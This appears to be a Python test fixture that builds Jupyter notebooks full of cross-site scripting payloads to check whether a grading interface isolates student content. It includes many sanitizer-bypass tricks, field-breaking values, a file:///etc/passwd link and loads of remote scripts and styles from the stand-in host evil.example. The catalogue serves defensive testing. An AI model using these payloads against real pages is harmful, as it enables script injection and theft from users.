"""Ways to run a script or to send a request from a page, and notebooks that hold them wherever a student can write."""

from __future__ import annotations

import base64
import copy
import json
from collections.abc import Iterator
from itertools import count
from pathlib import Path
from typing import Any

import nbformat

from tests.conftest import cell
from tests.isolation.classroom import notebook
from tests.report.conftest import HOSTILE, PIXEL

ASSIGNMENT = "backprop"
SENTENCE = "An ordinary sentence with an x &lt; 3 and a"
SAID, ELSEWHERE = "attack-", "evil.example"
_RUN = "alert(1)"
"""What a trick says where its script belongs."""

_NOWHERE = "http://evil.example"
_DEEP = 60
PAGE = f"<script>{_RUN}</script>"
SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'><script>{_RUN}</script><image href='{_NOWHERE}/s'/></svg>"
)

HTML = [
    *HOSTILE,
    f"<svg/onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text x=20 y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/><foreignObject>{PAGE}",
    f"<body onload={_RUN} onpageshow={_RUN} onhashchange={_RUN}>",
    f"<video autoplay onloadstart={_RUN}><source src={_NOWHERE}/v onerror={_RUN}></video>",
    f"<audio src={_NOWHERE}/a onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}></textarea><select autofocus onfocus={_RUN}></select>",
    f"<p tabindex=1 onfocus={_RUN} onmouseover={_RUN} onclick={_RUN} id=a1>touch</p>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={_RUN}>x</b>",
    f"<style>@import url({_NOWHERE}/import.css); * {{ background: url({_NOWHERE}/star.png) }}</style>",
    f"<link rel=stylesheet href={_NOWHERE}/l.css><link rel=preload as=image href={_NOWHERE}/p>",
    f"<link rel=import href={_NOWHERE}/i><link rel=dns-prefetch href={_NOWHERE}><link rel=prefetch href={_NOWHERE}/f>",
    f"<base href={_NOWHERE}/base/><img src=relative.png><a href=relative>x</a>",
    f"<form action='javascript:{_RUN}'><button>press</button><input type=image src={_NOWHERE}/b></form>",
    f"<form id=f></form><button form=f formaction='javascript:{_RUN}'>press</button><isindex action={_NOWHERE}>",
    f"<iframe src='javascript:{_RUN}'></iframe><iframe src={_NOWHERE}/frame></iframe>",
    f'<iframe srcdoc="{PAGE}"></iframe><iframe src="data:text/html,{PAGE}"></iframe>',
    f"<object data='javascript:{_RUN}'></object><object data={_NOWHERE}/o></object><embed src={_NOWHERE}/e>",
    f"<object data='data:text/html;base64,{base64.b64encode(PAGE.encode()).decode()}'></object>",
    f"<script src={_NOWHERE}/x.js></script><script type=module>{_RUN}</script><script src='data:,{_RUN}'></script>",
    f"<script type='text/x-mathjax-config'>{_RUN}</script>"
    f"<script type='math/tex'>\\href{{javascript:{_RUN}}}{{x}}</script>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{_RUN}'>x</maction></math>",
    f"<math href='javascript:{_RUN}'><mtext><table><mglyph><style>"
    f"<!--</style><img title='--><img src=1 onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'></xmp>"
    f"<plaintext-><title><a title='</title><img src=x onerror={_RUN}>'>",
    f"<!-- --!><img src=x onerror={_RUN}> --><!--[if true]>{PAGE}<![endif]--><![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<?php <img src=x onerror={_RUN}> ?><!doctype x [<!entity y '{PAGE}'>]>&y;",
    f"<a href='&#106;avascript:{_RUN}'>x</a><a href='java&Tab;script:{_RUN}'>x"
    f"</a><a href='\x01javascript:{_RUN}'>x</a>",
    f"<a href='JaVaScRiPt:{_RUN}'>x</a><a href='vbscript:{_RUN}'>x"
    f"</a><a href=' //evil.example/l' ping='{_NOWHERE}/ping'>x</a>",
    f"<area shape=default href='javascript:{_RUN}'><map name=m><area href='javascript:{_RUN}'></map><img usemap=#m>",
    f"<img src={_NOWHERE}/i srcset='{_NOWHERE}/2 2x'><picture>"
    f"<source srcset={_NOWHERE}/3></picture><image href={_NOWHERE}/4>",
    f"<img src=x alt='\"><img src=y onerror={_RUN}>' title=\"'><svg onload={_RUN}>\">",
    f"<b style='background:url({_NOWHERE}/u);list-style:url({_NOWHERE}/v);behavior:url({_NOWHERE}/w)'>x</b>",
    f"<table background={_NOWHERE}/t><td background={_NOWHERE}/d><col style='width:expression({_RUN})'></table>",
    f"<template shadowrootmode=open>{PAGE}<img src=x onerror={_RUN}></template><slot onslotchange={_RUN}></slot>",
    f"<div data-link='x\" onclick=\"{_RUN}' data-toggle=tooltip data-html=true title='"
    f"<img src=x onerror={_RUN}>'>hover</div>",
    f"<div class=mermaid>graph TD; A[&lt;img src=x onerror={_RUN}&gt;]; click A href 'javascript:{_RUN}'</div>",
    f"<div class='jp-Mermaid'><pre class=mermaid>graph TD; click A call {_RUN}</pre></div>",
    f"<div id=submission_id></div><a id=base_url href='{_NOWHERE}/clobber'>"
    f"</a><form name=grades><input name=attributes></form>",
    f"<input class='score tabbable' id=question-inactive value=4>"
    f"<textarea class=comment id=question-inactive-comment>{PAGE}</textarea>",
    f"<meta http-equiv=refresh content='0;url={_NOWHERE}/m'>"
    f"<meta http-equiv=Content-Security-Policy content='script-src *'>",
    f"<portal src={_NOWHERE}/portal></portal><frameset onload={_RUN}><frame src={_NOWHERE}/f></frameset>",
    f"<keygen autofocus onfocus={_RUN}><dialog open oncancel={_RUN}>x"
    f"</dialog><b popover oncontentvisibilityautostatechange={_RUN}>x</b>",
    f"<custom-element onclick={_RUN}>x</custom-element><b is=x-y onpointerenter={_RUN} onwheel={_RUN}>x</b>",
    f"</div></div></div></body></html>{PAGE}<div><div><div>",
    f"</pre></textarea></style></title></script>--></svg></math>{PAGE}",
    "<b>" * _DEEP + PAGE + "<table><tr><td>" * _DEEP,
]
HALF_OPEN = ["<!--", "<script>", "<style>", "<textarea>", "<title>", "<plaintext>", "<svg><![CDATA[", "<math><xmp>"]
"""What would hide the rest of a page, or change how it is read."""

MARKDOWN = [
    f"[x](javascript:{_RUN}) [x](<javascript:{_RUN}>) [x](java\nscript:{_RUN}) [x](&#x6A;avascript:{_RUN})",
    f"[x](data:text/html;base64,{base64.b64encode(PAGE.encode()).decode()})"
    f" [x](vbscript:{_RUN}) [x](file:///etc/passwd)",
    f"![x]({_NOWHERE}/md.png) ![x](javascript:{_RUN})"
    f' ![x](x"onerror="{_RUN}) ![x"onerror="{_RUN}](x \'t"onerror="{_RUN}\')',
    f"[x][r] ![x][p]\n\n[r]: javascript:{_RUN} 'x\" onmouseover=\"{_RUN}'\n[p]: {_NOWHERE}/ref.png",
    f"<javascript:{_RUN}> <{_NOWHERE}/auto> https://evil.example/plain <img/src=x onerror={_RUN}>",
    f'```mermaid\ngraph TD; A[<img src=x onerror={_RUN}>]; click A href "javascript:{_RUN}"\n```',
    f'```html onmouseover={_RUN}\n{PAGE}\n```\n\n```"><img src=x onerror={_RUN}>\nx\n```',
    f"$\\href{{javascript:{_RUN}}}{{x}}$ $\\unicode{{x3c}}$ "
    f"$\\text{{<img src=x onerror={_RUN}>}}$ \\(\\require{{x}}\\)",
    f"\\$\\href{{javascript:{_RUN}}}{{x}}\\$ &#36;\\href{{javascript:{_RUN}}}{{x}}&#36;"
    f" \\\\(\\href{{javascript:{_RUN}}}{{x}}\\\\)",
    f'$$\\style{{background:url({_NOWHERE}/st)}}{{x}} \\class{{x" onclick="{_RUN}}}{{y}} \\cssId{{base_url}}{{z}}$$',
    f'$\\mathchoice{{\\color{{red" onclick="{_RUN}}}{{x}}}}{{}}{{}}{{}}$'
    f" $\\includegraphics{{{_NOWHERE}/g.png}}$ $\\data{{x}}{{y}}$",
    f"\\begin{{align}}\\label{{</script>{PAGE}}} x"
    f" \\end{{align}} \\begin{{x><img src=x onerror={_RUN}>}}y\\end{{x><img src=x onerror={_RUN}>}}",
    f"# <img src=x onerror={_RUN}> {{#x onclick={_RUN}}}\n\n| a{PAGE} |\n|---|\n| <img src=x onerror={_RUN}> |",
    f'![x](attachment:a.png) ![x](attachment:b.svg) ![x](attachment:c"onerror="{_RUN}) attachment:d',
    f"`{PAGE}` ``<img src=x onerror={_RUN}>`` ~~<svg onload={_RUN}>~~ [^1]\n\n[^1]: <svg onload={_RUN}>",
]
"""More than HTML, which markdown holds too."""

ATTACHMENTS = {
    "a.png": {"image/png": f"iVBO' onerror='{_RUN}\" onerror=\"{_RUN}"},
    "b.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
    f'c"onerror="{_RUN}': {"text/html": PAGE, "image/gif": PIXEL.partition(",")[2]},
    "d": {"image/png": f"<img src=x onerror={_RUN}>"},
    "": {"image/jpeg": ["/9j/", f"'><script>{_RUN}</script>"]},
}
_BREAK = f"x\"'><img src=x onerror={_RUN}><script>{_RUN}</script>"
"""For places that are meant to hold one word."""

_number = count(1)


def live(trick: Any) -> Any:
    """The trick with a script that says its number, and that number in whatever it would fetch."""
    number = next(_number)
    run = f"console.log(/{SAID}{number}/),top.harmed=1"
    text = json.dumps(trick).replace(_RUN, run).replace(f"{_NOWHERE}/", f"{_NOWHERE}/{number}/")
    return json.loads(text)


def _displays() -> Iterator[tuple[dict[str, Any], dict[str, Any]]]:
    """Data and metadata of outputs."""
    for trick in [*HTML, *HALF_OPEN]:
        yield {"text/html": trick}, {}
    for trick in MARKDOWN:
        yield {"text/markdown": trick}, {}
        yield {"text/latex": trick}, {}
    yield {"text/plain": PAGE}, {}
    yield {"image/svg+xml": SVG}, {}
    yield {"image/svg+xml": SVG.replace("<svg", f"<svg onclick={_RUN}", 1) + PAGE}, {"isolated": False}
    for kind in ("application/javascript", "text/javascript", "application/x-javascript"):
        yield {kind: _RUN}, {}
    yield {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{PAGE}", "version_major": 2}}, {}
    yield {"application/vnd.jupyter.widget-state+json": {"state": {"x": f"</script>{PAGE}"}}}, {}
    yield {f"application/vnd.jupyter.widget-view+json;{_BREAK}": {"model_id": "x"}}, {}
    yield {"text/vnd.mermaid": f'graph TD; A[<img src=x onerror={_RUN}>]; click A href "javascript:{_RUN}"'}, {}
    yield {"application/vnd.plotly.v1+json": {"data": PAGE}, "application/json": {"x": PAGE}}, {}
    yield {"application/pdf": "x", f"text/html;{_BREAK}": PAGE, _BREAK: PAGE}, {}
    yield {"text/html": PAGE}, {"isolated": True, "text/html": {"isolated": True}}
    for kind in ("image/png", "image/jpeg", "image/gif", "image/webp", "image/bmp"):
        yield {kind: f"x' onerror='{_RUN}'\" onerror=\"{_RUN}"}, {}
        yield {kind: PIXEL.partition(",")[2]}, {"filenames": {kind: f'{_NOWHERE}/name.png" onerror="{_RUN}'}}
        odd = {"width": f"1 onerror={_RUN}", "height": f"1 onload={_RUN}", "alt": _BREAK, "unconfined": _BREAK}
        yield {kind: "x"}, {kind: odd, **odd}


def _stored() -> Iterator[dict[str, Any]]:
    """Outputs as no grader writes them."""
    for data, metadata in _displays():
        yield {"output_type": "display_data", "data": data, "metadata": metadata}
    yield {"output_type": "execute_result", "execution_count": _BREAK, "data": {"text/html": PAGE}, "metadata": {}}
    yield {"output_type": "display_data", "data": {"image/svg+xml": SVG}, "svg_filename": _BREAK, "metadata": {}}
    yield {"output_type": "stream", "name": _BREAK, "text": PAGE}
    yield {"output_type": "stream", "name": "stderr", "text": f"\x1b[31;{_BREAK}m{PAGE}\x1b]8;;javascript:{_RUN}\x07x"}
    yield {"output_type": "error", "ename": _BREAK, "evalue": PAGE, "traceback": [f"\x1b[38;2;1;2;{_BREAK}m", PAGE]}
    yield {"output_type": "error", "ename": _BREAK, "evalue": PAGE, "traceback": None}
    yield {"output_type": _BREAK, "data": {"text/html": PAGE}, "metadata": {}}
    yield {"output_type": "display_data", "data": {"text/html": ["<img src=x ", f"onerror={_RUN}>"]}, "metadata": {}}


def ordinary() -> list[nbformat.NotebookNode]:
    """Cells as an honest student has them: a text, a formula, a table, a figure, a failure."""
    sources = [
        'from IPython.display import HTML, display\nHTML("<table><tr><td>a cell of a table</td></tr></table>")',
        "import matplotlib.pyplot as plt\nplt.plot([1, 2], [3, 5]);",
        "print('a printed < line')\n1 / 0",
    ]
    text = f"{SENTENCE} **strong** word and $\\alpha_1 = 0$, see [the site](https://ok.example/site)."
    picture = nbformat.v4.new_markdown_cell("![my drawing](attachment:drawing.png)")
    picture.attachments = {"drawing.png": {"image/png": _large_picture()}}
    return [
        nbformat.v4.new_markdown_cell(text),
        picture,
        *(nbformat.v4.new_code_cell(source) for source in sources),
    ]


def _large_picture() -> str:
    """A picture of many more characters than a text may have, as a photo of a sheet of paper has."""
    import io

    import matplotlib.image
    import numpy as np

    with io.BytesIO() as file:
        matplotlib.image.imsave(file, np.random.default_rng(1).random((150, 200, 3)), format="png")
        return base64.b64encode(file.getvalue()).decode()


def handed_in() -> nbformat.NotebookNode:
    """A solved notebook with every trick that survives the grader: outputs come from code that runs."""
    made = notebook(ASSIGNMENT)
    made.cells[0:0] = ordinary()
    cell(made, "question-inactive").source = "\n\n".join(live([*MARKDOWN, *HTML, *HALF_OPEN]))
    cell(made, "question-inactive").attachments = live(ATTACHMENTS)
    for trick in [*HTML, *HALF_OPEN, *MARKDOWN]:
        made.cells.append(nbformat.v4.new_markdown_cell(live(trick)))
    made.cells.append(
        nbformat.v4.new_raw_cell(live(PAGE), metadata={"raw_mimetype": "text/html", "format": "text/html"})
    )
    displays = [live(list(each)) for each in _displays()]
    for start in range(0, len(displays), 40):
        lines = [f"display({data!r}, raw=True, metadata={odd!r})" for data, odd in displays[start : start + 40]]
        made.cells.append(nbformat.v4.new_code_cell("\n".join(["from IPython.display import display", *lines])))
    shouts = live([*HTML, f"\x1b[31m{PAGE}\x1b]8;;javascript:{_RUN}\x07x\x1b]8;;\x07"])
    made.cells.append(
        nbformat.v4.new_code_cell(f"import sys\nfor text in {shouts!r}:\n    print(text, file=sys.stderr)")
    )
    made.cells.append(nbformat.v4.new_code_cell(f"raise type({live(_BREAK)!r}, (Exception,), {{}})({live(PAGE)!r})"))
    for part in made.cells:
        _spoil(part)
    made.metadata.update(live(_metadata()))
    return made


def simple() -> nbformat.NotebookNode:
    """A solved notebook with tricks that stock Formgrader can show: it falls over the others."""
    made = notebook(ASSIGNMENT)
    lines = [f"display({{'text/html': {live(trick)!r}}}, raw=True)" for trick in HTML]
    made.cells.append(nbformat.v4.new_code_cell("\n".join(["from IPython.display import display", *lines])))
    made.cells += [nbformat.v4.new_markdown_cell(live(trick)) for trick in HTML]
    return made


def _metadata() -> dict[str, Any]:
    state = {"version_major": 2, "version_minor": 0, "state": {"x": {"model_name": f"</script>{PAGE}"}}}
    return {
        "title": _BREAK,
        "trusted": True,
        "signature": "sha256:0",
        "language_info": {"name": _BREAK, "pygments_lexer": _BREAK, "codemirror_mode": {"name": PAGE}},
        "kernelspec": {"name": "python3", "display_name": _BREAK, "language": _BREAK},
        "widgets": {"application/vnd.jupyter.widget-state+json": state},
        "authors": [{"name": _BREAK}],
    }


def _spoil(part: nbformat.NotebookNode) -> None:
    """Metadata as odd as a student can make it, of a cell that keeps its place."""
    odd = {"tags": [_BREAK, PAGE], "name": _BREAK, "alt": _BREAK, "slideshow": {"slide_type": _BREAK}, "trusted": True}
    part.metadata.update(live({**odd, "magics_language": _BREAK}))
    if part.cell_type == "markdown" and "attachments" not in part:
        part.attachments = live(ATTACHMENTS)


def worst(path: Path) -> None:
    """Put everything into a graded notebook, as if a grader had taken all of it over."""
    made = json.loads(path.read_text(encoding="utf-8"))
    answer = next(part for part in made["cells"] if part["metadata"].get("nbgrader", {}).get("grade_id") == "forward")
    answer["outputs"] = [live(each) for each in _stored()]
    answer["execution_count"] = live(_BREAK)
    for number, part in enumerate(made["cells"]):
        part["id"] = live(f"c{number}{_BREAK}")
        part["metadata"].update(live({"tags": [_BREAK], "name": _BREAK, "alt": _BREAK, "trusted": True}))
    stray = copy.deepcopy(answer) | {"outputs": []}
    stray["metadata"]["nbgrader"].update(live({"grade_id": _BREAK, "points": _BREAK, "checksum": _BREAK}))
    raw = {"cell_type": "raw", "source": live(PAGE), "metadata": {"raw_mimetype": ""}, "id": "raw"}
    made["cells"] += [stray, raw, {"cell_type": live(_BREAK), "source": PAGE, "metadata": {}, "id": "odd"}]
    made["metadata"].update(live(_metadata()))
    path.chmod(0o600)
    path.write_text(json.dumps(made), encoding="utf-8")
